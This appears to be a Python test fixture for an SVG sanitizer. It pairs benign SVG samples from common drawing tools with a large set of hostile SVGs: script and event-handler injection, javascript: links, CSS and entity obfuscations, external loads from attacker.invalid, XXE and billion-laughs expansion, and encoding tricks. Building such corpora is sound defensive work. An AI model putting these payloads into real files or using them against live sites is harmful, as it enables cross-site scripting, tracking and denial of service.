# ruff: noqa: E501
"""SVG drawings: what the usual programs write, and attacks on who shows or opens one."""

from __future__ import annotations

import base64

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"'
WEB = "https://attacker.invalid/x"
RUN = "javascript:window.pwned=1"
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
HTML = "http://www.w3.org/1999/xhtml"
DOCTYPE = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'

# Each loses nothing: it is packed as it is.
HONEST = {
    "Excalidraw": f"""<svg version="1.1" {NS} viewBox="0 0 90 90" filter="invert(93%) hue-rotate(180deg)">
  <!-- svg-source:excalidraw --><metadata><!-- payload-start -->eyJ2=<!-- payload-end --></metadata>
  <defs><style class="style-fonts">@font-face {{ font-family: Virgil; src: url(data:font/woff2;base64,d09GMgABAAA=); }}</style></defs>
  <g stroke-linecap="round" transform="translate(10 10) rotate(0 4 5)"><path d="M0 0 C1,2 3,4 5,6" stroke="#1e1e1e" fill="none"></path></g>
  <a href="https://example.org/a?b=c#d"><text style="white-space: pre;" font-family="Virgil, Segoe UI Emoji">a</text></a>
  <symbol id="image-1"><image href="{PIXEL}" width="100%" height="100%"></image></symbol><use href="#image-1" mask="url(#m)"></use></svg>""",
    "Inkscape": f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg {NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
  xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" sodipodi:docname="a (1).svg">
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:window-width="1920"><inkscape:grid type="xygrid" /></sodipodi:namedview>
  <defs><inkscape:path-effect effect="fill_between" params="F,0,0,1 @ (a;b)" /><linearGradient id="g" xlink:href="#h" gradientTransform="matrix(1,0,0,1,2,3)" />
  <clipPath id="c" clipPathUnits="userSpaceOnUse"><rect rx="3" /></clipPath></defs>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">a</dc:title></cc:Work></rdf:RDF></metadata>
  <path style="fill:url(#g);-inkscape-font-specification:'Sans, Normal'" clip-path="url(#c)" d="m 0,0 z" sodipodi:nodetypes="cc" /></svg>""",
    "draw.io": f"""{DOCTYPE}
<svg {NS} version="1.1" content="&lt;mxfile host=&quot;app.diagrams.net&quot;&gt;&lt;/mxfile&gt;" style="background-color: light-dark(#ffffff, var(--ge-dark-color, #121212)); color-scheme: light dark;">
<g data-cell-id="2"><rect pointer-events="all" fill="#fff"/><switch><foreignObject pointer-events="none" requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility">
<div xmlns="{HTML}" style="display: flex; align-items: unsafe center; width: 118px; padding-top: 30px;"><div data-drawio-colors="color: #000000; " style="font-size: 0px;">
<div style="pointer-events: all; white-space: normal;"><font color="#ff0000" size="3">a</font><br/><b align="left">b</b></div></div></div></foreignObject>
<image x="1" xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/><text text-anchor="middle">a</text></switch></g></svg>""",
    "matplotlib": f"""<?xml version="1.0" encoding="utf-8" standalone="no"?>
{DOCTYPE}
<svg {NS} viewBox="0 0 9 9" version="1.1"><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
<defs><style type="text/css">*{{stroke-linejoin: round; stroke-linecap: butt}}</style></defs>
<defs><path id="m0" d="M 0 0 L 0 3.5"/></defs><g><use xlink:href="#m0" x="1.5" style="stroke: #000000; stroke-width: 0.8"/></g></svg>""",
    "Mermaid": f"""<svg {NS} id="mermaid-1" aria-roledescription="flowchart-v2" role="graphics-document document" class="flowchart">
<style>#mermaid-1{{font-family:"trebuchet ms",verdana;}}@keyframes edge{{from{{stroke-dashoffset:0;}}}}#mermaid-1 .a\\:b p{{fill:hsl(80, 100%, 96%);filter:drop-shadow(1px 2px 2px rgba(0,0,0,.4));}}:root{{--x:'a'}}</style>
<marker id="p" orient="auto" markerUnits="userSpaceOnUse" refX="5"><path d="M 0 0"/></marker><path marker-end="url(#p)" data-points="W3sieCI6MX1d"/>
<foreignObject width="30"><div xmlns="{HTML}" style="display: table-cell; line-height: 1.5;"><span class="nodeLabel"><p>A</p></span></div></foreignObject></svg>""",
    "PlantUML": f'<?xml version="1.0" encoding="us-ascii" standalone="no"?><svg {NS} contentStyleType="text/css" style="width:9px;background:#FFF;" zoomAndPan="magnify"><?plantuml 1.2024.3?><defs/><g><text lengthAdjust="spacing" textLength="9">a</text><a href="https://a.example" target="_top" xlink:actuate="onRequest" xlink:show="new" xlink:title="t"><text>b</text></a><?plantuml-src SoWkIImgAStDuN98pKi1?></g></svg>',
    "Illustrator": f"""<?xml version="1.0" encoding="iso-8859-1"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">]>
<svg {NS} xmlns:i="&ns_ai;" i:viewOrigin="0 9" enable-background="new 0 0 9 9" xml:space="preserve"><switch><foreignObject requiredExtensions="&ns_ai;" width="1"><i:pgfRef xlink:href="#a"></i:pgfRef></foreignObject><g i:extraneous="self"><rect/></g></switch></svg>""",
    "a moving one": f'<svg {NS}><circle r="3"><animate attributeName="r" values="1;2;3" dur="2s" repeatCount="indefinite" begin="0s;a.end"/><animateTransform attributeName="transform" type="rotate" from="0 1 2" to="9 1 2"/></circle><rect t="1586" p-id="12" space="preserve"/></svg>',
    "one with a filter": f'<svg {NS}><filter id="f"><feImage href="{PIXEL}"/><feColorMatrix in="SourceGraphic" values="1 0 0"/><feBlend in2="b" mode="multiply"/></filter><g filter="url(#f)" cursor="pointer"><text>on click = href, url(http://a.example) @import</text></g></svg>',
}

# Each is put between `<svg …>` and `</svg>`.
INSIDE = rf"""
<script>window.pwned=1</script>
<script><![CDATA[window.pwned=1]]></script>
<script href="{WEB}"/>
<script xlink:href="data:text/javascript,window.pwned=1"/>
<s:script xmlns:s="http://www.w3.org/2000/svg">window.pwned=1</s:script>
<g xmlns="http://example.org/x"><s:script xmlns:s="http://www.w3.org/2000/svg">window.pwned=1</s:script></g>
<script xmlns="{HTML}">window.pwned=1</script>
<h:script xmlns:h="{HTML}" src="{WEB}"/>
<metadata><script>window.pwned=1</script></metadata>
<desc><h:img xmlns:h="{HTML}" src="x" onerror="window.pwned=1"/></desc>
<handler type="text/javascript">window.pwned=1</handler>
<rect width="9" height="9" onclick="window.pwned=1"/>
<rect
onload
=
'window.pwned=1'/>
<image href="x" onerror="window.pwned=1"/>
<animate attributeName="x" dur="1s" onbegin="window.pwned=1"/>
<style onload="window.pwned=1">a{{}}</style>
<a href="{RUN}"><rect width="90" height="90"/></a>
<a xlink:href="{RUN}"><rect width="90" height="90"/></a>
<a xlink:href="java&#9;script:window.pwned=1"><rect width="90" height="90"/></a>
<a xlink:href="&#1;{RUN}"><rect/></a>
<a xlink:href=" &#x20;JaVaScRiPt:window.pwned=1"><rect width="90" height="90"/></a>
<a l:href="{RUN}" xmlns:l="http://www.w3.org/1999/xlink"><rect width="90" height="90"/></a>
<a href="data:text/html,&lt;script>opener.pwned=1&lt;/script>"><rect width="90" height="90"/></a>
<a href="vbscript:x"><rect/></a>
<a href="#a" ping="{WEB}"><rect width="90" height="90"/></a>
<a><animate attributeName="href" values="{RUN}"/><rect width="90" height="90"/></a>
<a><set attributeName="xlink:href" to="{RUN}"/><rect width="90" height="90"/></a>
<rect><set attributeName=" onclick " to="window.pwned=1"/></rect>
<image><set attributeName="href" to="{WEB}"/></image>
<rect><set attributeName="fill" to="url({WEB}#a)"/></rect>
<image href="{WEB}"/>
<image xlink:href="{WEB}" width="9" height="9"/>
<image xlink:href="//attacker.invalid/x" width="9" height="9"/>
<image href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>" width="9" height="9"/>
<image href="data:text/html,x" width="9" height="9"/>
<filter id="f"><feImage href="{WEB}"/></filter><rect filter="url(#f)" width="9" height="9"/>
<use href="{WEB}#a"/>
<use href="data:image/svg+xml;base64,{base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" id="a"><script>window.pwned=1</script></svg>').decode()}#a"/>
<linearGradient xlink:href="{WEB}#a"/>
<textPath href="{WEB}#a">a</textPath>
<font-face><font-face-src><font-face-uri xlink:href="{WEB}"/></font-face-src></font-face>
<color-profile xlink:href="{WEB}"/>
<cursor xlink:href="{WEB}"/>
<rect fill="url({WEB}#a)" width="9" height="9"/>
<rect filter="url('{WEB}#a')" width="9" height="9"/>
<rect mask="u\72l({WEB}#a)" width="9" height="9"/>
<rect unknown="url({WEB})"/>
<rect style="fill:url({WEB}#a)" width="9" height="9"/>
<rect style="background-image:image-set('{WEB}' 1x);cursor:url({WEB}),auto" width="90" height="90"/>
<rect style="mask-image:-webkit-image-set(url({WEB}) 1x)" width="9" height="9"/>
<rect style="--a:url({WEB});mask-image:var(--a)" width="9" height="9"/>
<style>@import "{WEB}";</style>
<style>@im\70ort url({WEB});</style>
<style>@\69mport '{WEB}';</style>
<style><![CDATA[@import "{WEB}";]]></style>
<style>@im<!-- -->port "{WEB}";</style>
<style>/* " */@import "{WEB}";/* " */</style>
<style>@font-face{{font-family:q;src:url({WEB})}}text{{font-family:q}}</style><text>a</text>
<style>@font-face{{font-family:q;src:local(x),url( "{WEB}" )}}text{{font-family:q}}</style><text>a</text>
<style>svg{{background:url({WEB})}}</style>
<style>svg{{background:URL({WEB})}}</style>
<style>svg{{background:\75\72\6c({WEB})}}</style>
<style>svg{{background:url(/**/{WEB})}}</style>
<style>svg{{background:url(h\74tps://attacker.invalid/x)}}</style>
<style>svg{{background:cross-fade(url({WEB}),red)}}</style>
<style>svg{{list-style:image-set("{WEB}" 1x);background:image-set("{WEB}" 1x)}}</style>
<style>a{{b:'</style><style>';}}svg{{background:url({WEB})}}</style>
<style>a{{b:"
}}svg{{background:url({WEB})}}"</style>
<style>svg{{background:src("{WEB}")}}</style>
<style><g/>svg{{background:url({WEB})}}</style>
<s:style xmlns:s="{HTML}">@import "{WEB}";</s:style>
<foreignObject width="90" height="90"><body xmlns="{HTML}"><script>window.pwned=1</script></body></foreignObject>
<foreignObject width="90" height="90"><iframe xmlns="{HTML}" src="{RUN}"/></foreignObject>
<foreignObject width="90" height="90"><iframe xmlns="{HTML}" srcdoc="&lt;script>parent.pwned=1&lt;/script>"/></foreignObject>
<foreignObject width="90" height="90"><img xmlns="{HTML}" src="x" onerror="window.pwned=1"/></foreignObject>
<foreignObject width="90" height="90"><img xmlns="{HTML}" src="{WEB}"/></foreignObject>
<foreignObject width="90" height="90"><img xmlns="{HTML}" srcset="{WEB} 1x"/></foreignObject>
<foreignObject width="90" height="90"><p xmlns="{HTML}" background="{WEB}" style="background:url({WEB})">a</p></foreignObject>
<foreignObject width="90" height="90"><table xmlns="{HTML}" background="{WEB}"><tr><td>a</td></tr></table></foreignObject>
<foreignObject width="90" height="90"><a xmlns="{HTML}" href="{RUN}" ping="x">aaaaaaaaaaaaaaaa</a></foreignObject>
<foreignObject width="90" height="90"><form xmlns="{HTML}" action="{RUN}"><input name="a" autofocus="" onfocus="window.pwned=1"/></form></foreignObject>
<foreignObject width="90" height="90"><object xmlns="{HTML}" data="{WEB}"/><embed xmlns="{HTML}" src="{WEB}"/></foreignObject>
<foreignObject width="90" height="90"><video xmlns="{HTML}" src="{WEB}" poster="{WEB}"/><audio xmlns="{HTML}" src="{WEB}"/></foreignObject>
<foreignObject width="90" height="90"><link xmlns="{HTML}" rel="stylesheet" href="{WEB}"/></foreignObject>
<foreignObject width="90" height="90"><meta xmlns="{HTML}" http-equiv="refresh" content="0;url={WEB}"/></foreignObject>
<foreignObject width="90" height="90"><base xmlns="{HTML}" href="https://attacker.invalid/"/></foreignObject>
<foreignObject width="90" height="90"><details xmlns="{HTML}" open="" ontoggle="window.pwned=1">a</details></foreignObject>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="{RUN}">x</mi><maction actiontype="toggle"><mi>x</mi></maction></math>
<iframe src="{RUN}"/><video href="{WEB}"/><audio href="{WEB}"/><canvas/><link href="{WEB}"/>
<g xml:base="https://attacker.invalid/"><use href="#a"/></g>
<?xml-stylesheet href="{WEB}" type="text/css"?>
<listener event="click" handler="#h"/><tref xlink:href="{WEB}#a"/>
""".strip()
# Whole files.
WHOLE = [
    f'<?xml-stylesheet type="text/css" href="{WEB}"?><svg {NS}/>',
    f'<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><svg {NS}/>',
    f'<svg {NS} onload="window.pwned=1"/>',
    f'<html xmlns="{HTML}"><script>window.pwned=1</script></html>',
    f'<x:svg xmlns:x="{HTML}"><x:script>window.pwned=1</x:script></x:svg>',
    f'<!DOCTYPE svg [<!ENTITY a "&#60;script>window.pwned=1&#60;/script>">]><svg {NS}>&a;</svg>',
    f"<!DOCTYPE svg [<!ENTITY a '<rect onclick=\"window.pwned=1\"/>'>]><svg {NS}>&a;</svg>",
    f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{WEB}">]><svg {NS}>&a;</svg>',
    f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{WEB}">%a;]><svg {NS}/>',
    f'<!DOCTYPE svg [<!ENTITY a "javascript:">]><svg {NS}><a href="&a;window.pwned=1"><rect width="90" height="90"/></a></svg>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "window.pwned=1">]><svg {NS}/>',
    "<!DOCTYPE svg ["
    + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    + f'<!ENTITY a0 "aaaaaaaaaa">]><svg {NS}>&a9;</svg>',
    f"<svg {NS}><defs>"
    + "".join(f'<g id="a{n + 1}">{f"""<use href="#a{n}"/>""" * 10}</g>' for n in range(9))
    + '<rect id="a0"/></defs><use href="#a9"/></svg>',
    f"<svg {NS}><script>window.pwned=1</script></svg>junk",
    f"<svg {NS}><script>window.pwned=1</script>",
    f'<svg {NS} xmlns:on="http://www.w3.org/2000/svg"><on:script>window.pwned=1</on:script></svg>',
    f'<?xml version="1.0" encoding="utf-7"?><svg {NS}>+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-</svg>',
    f'<?xml version="1.0" encoding="iso-2022-jp"?><svg {NS}><script>window.pwned=1</script></svg>',
    f"\ufeff<svg {NS}><script>window.pwned=1</script></svg>",
]
ENCODED = [
    f"<svg {NS}><script>window.pwned=1</script><text>ä</text></svg>".encode("utf-16"),
    f"<svg {NS}><script>window.pwned=1</script></svg>".encode("utf-16-le"),
    f'<?xml version="1.0" encoding="iso-8859-1"?><svg {NS}><script>window.pwned=1</script><text>ä</text></svg>'.encode(
        "latin-1"
    ),
]


def hostile() -> list[bytes]:
    """Return the attacks as files."""
    parts: list[str] = []
    for line in INSIDE.split("\n"):
        # A line that begins otherwise goes on with the attack before it.
        if line.startswith("<"):
            parts.append(line)
        else:
            parts[-1] += f"\n{line}"
    return [
        *(f"<svg {NS}>{part}</svg>".encode() for part in parts),
        *(text.encode() for text in WHOLE),
        *ENCODED,
    ]
